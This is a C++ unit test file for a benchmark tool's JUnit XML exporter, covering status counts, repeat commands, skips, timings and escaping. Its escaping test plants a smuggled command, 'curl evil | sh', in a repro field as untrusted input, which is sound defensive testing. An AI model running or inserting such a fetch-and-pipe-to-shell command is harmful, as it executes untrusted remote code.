#include "results/store/junit.h"

#include <gtest/gtest.h>

#include "kernels/testing/messages.h"
#include "results/record/test_run.h"

namespace sparkbench {
namespace {

TEST(Junit, CountsCasesByTheirStatus) {
  const std::string xml = run_to_junit(sample_run());
  EXPECT_TRUE(xml.starts_with(
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
      "<testsuites name=\"sparkbench\" tests=\"9\" failures=\"1\" errors=\"1\" skipped=\"1\" "
      "time=\"0.000\">\n"
      "  <testsuite name=\"volta-fp32acc\" tests=\"2\" failures=\"0\" errors=\"0\" skipped=\"0\" "
      "time=\"0.000\" timestamp=\"2025-01-31T12:00:00Z\">\n"))
      << xml;
  EXPECT_TRUE(contains(xml,
                       "<testsuite name=\"volta-fp16acc\" tests=\"5\" failures=\"1\" "
                       "errors=\"1\" skipped=\"1\" "));
  EXPECT_TRUE(xml.ends_with("  </testsuite>\n</testsuites>\n"));
}

TEST(Junit, SaysWhyAndHowToRepeatIt) {
  const std::string xml = run_to_junit(sample_run());
  EXPECT_TRUE(contains(xml,
                       "      <error type=\"E-LAUNCH\" message=\"misaligned address\">repeat: "
                       "sparkbench run --kernel volta-fp16acc --seqlen 256</error>\n"))
      << xml;
  EXPECT_TRUE(contains(xml,
                       "      <failure type=\"E-INCORRECT\" message=\"3 elements are not finite\">"
                       "repeat: sparkbench run --kernel volta-fp16acc --seqlen 64</failure>\n"));
  EXPECT_TRUE(
      contains(xml, "      <skipped message=\"E-OUT-OF-MEMORY: needs 32 GiB of 16 GiB\"/>\n"));
}

TEST(Junit, TakesWhatTestsNothingForSkipped) {
  RunRecord run = sample_run();
  run.cases.resize(2);
  run.cases[0].status = Status::kUnverified;
  run.cases[0].reason = Reason{"E-UNVERIFIED", "its result was not checked"};
  run.cases[1].status = Status::kPredicted;
  run.cases[1].reason = Reason{"E-ONLY-PREDICTED", "it takes minutes"};
  const std::string xml = run_to_junit(run);
  EXPECT_TRUE(contains(xml, "tests=\"2\" failures=\"0\" errors=\"0\" skipped=\"2\""));
  EXPECT_TRUE(contains(xml, "<skipped message=\"E-UNVERIFIED: its result was not checked\"/>"));
  EXPECT_TRUE(contains(xml, "<skipped message=\"E-ONLY-PREDICTED: it takes minutes\"/>"));
}

TEST(Junit, HasTheTimeThatACaseTook) {
  RunRecord run = sample_run();
  run.cases = {sample_timed_case()};
  EXPECT_TRUE(contains(run_to_junit(run),
                       "    <testcase classname=\"volta-fp32acc\" "
                       "name=\"volta-fp32acc/fwd/b1/h2/sq128/sk128/d64/causal/p0.1\" "
                       "time=\"1.500\"/>\n"));
}

TEST(Junit, FailsARunThatIsNotComplete) {
  RunRecord run = sample_run();
  run.cases.resize(3);
  run.run.complete = false;
  const std::string xml = run_to_junit(run);
  EXPECT_TRUE(contains(xml, "tests=\"4\" failures=\"0\" errors=\"1\""));
  EXPECT_TRUE(contains(xml, "<error type=\"incomplete\""));
}

TEST(Junit, EscapesWhatOthersWrote) {
  RunRecord run = sample_run();
  run.cases = {run.cases.back()};
  run.cases[0].reason->message = "a < b && \"c\"\n\x1b[2J\xef\xbf\xbe";
  run.cases[0].repro = "sparkbench run; curl evil | sh";
  const std::string xml = run_to_junit(run);
  EXPECT_TRUE(contains(xml, "message=\"a &lt; b &amp;&amp; &quot;c&quot; ?[2J?\"></failure>"))
      << xml;
}

}  // namespace
}  // namespace sparkbench
